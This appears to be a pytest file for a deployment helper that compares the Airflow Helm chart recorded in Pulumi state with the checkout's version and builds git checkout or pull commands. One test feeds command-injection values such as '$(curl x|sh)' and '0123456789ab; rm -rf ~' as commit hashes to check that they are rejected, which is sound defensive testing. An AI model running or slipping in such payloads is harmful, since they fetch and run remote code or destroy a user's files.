"""The chart that runs, this checkout's, and how to come from the one to the other."""

from __future__ import annotations

import subprocess
from pathlib import Path

import versions
from automation.upgrade.chart import Charts, charts
from components.release.chart_archive import ARCHIVE


def deployment(chart: str) -> dict[str, object]:
    release = {"type": "kubernetes:helm.sh/v3:Release", "urn": "u::airflow", "inputs": {"chart": chart}}
    return {"resources": [{"type": "pulumi:pulumi:Stack", "urn": "u"}, release]}


def test_deployed_chart_is_that_of_the_archive_in_the_state() -> None:
    record = {"kind": "update", "result": "succeeded", "environment": {"git.head": "0123456789" * 4}}
    history = [{"kind": "update", "result": "failed", "environment": {"git.head": "f" * 40}}, record]
    found = charts(deployment(f"./.charts/{ARCHIVE}"), history)
    assert (found.deployed, found.here) == (versions.AIRFLOW_CHART, versions.AIRFLOW_CHART)
    assert found.change() is None
    assert found.commit == "0123456789" * 4
    assert charts({}, []).deployed == charts(deployment("a chart of somebody"), []).deployed == ""
    assert not Charts(here="1.23.0").to_newer, "what is not known is not compared"


def test_commit_of_the_history_is_one_or_none() -> None:
    """It stands in a command that a person copies, and whoever writes into the backend wrote it."""
    for head in ("$(curl x|sh)", "0123456789ab; rm -rf ~", "f" * 12, "0123456789" * 4 + "\n", ""):
        record = {"kind": "update", "result": "succeeded", "environment": {"git.head": head}}
        assert charts(deployment(f"./.charts/{ARCHIVE}"), [record]).commit == "", head


def test_ten_is_more_than_nine() -> None:
    assert Charts(deployed="1.9.0", here="1.10.0").to_newer
    assert Charts(deployed="1.10.0", here="1.9.0").to_older


def test_commit_that_deployed_last_is_the_way_back() -> None:
    found = Charts(deployed="1.22.0", here="1.23.0", commit="0123456789abcdef")
    assert found.command_to("1.22.0") == "git checkout 0123456789ab"
    assert found.command_to("1.24.0").startswith("git pull")
    assert found.command_to("x; rm").startswith("give a version")


def test_older_chart_is_in_the_commit_that_the_command_finds(tmp_path: Path) -> None:
    def run(command: str) -> str:
        return subprocess.run(
            ["sh", "-ec", command], cwd=tmp_path, check=True, capture_output=True, text=True
        ).stdout.strip()

    def commit(version: str, more: str = "") -> str:
        (tmp_path / "versions.py").write_text(f'AIRFLOW_CHART = "{version}"\n{more}')
        run("git add -A; git -c user.name=x -c user.email=x@example.com commit -qm x")
        return run("git rev-parse HEAD")

    run("git init -q")
    commit("1.22.0")
    last = commit("1.22.0", "# more\n")
    commit("1.23.0")
    commit("1.23.0", "# more\n")
    run(Charts(deployed="1.23.0", here="1.23.0").command_to("1.22.0"))
    assert run("git rev-parse HEAD") == last
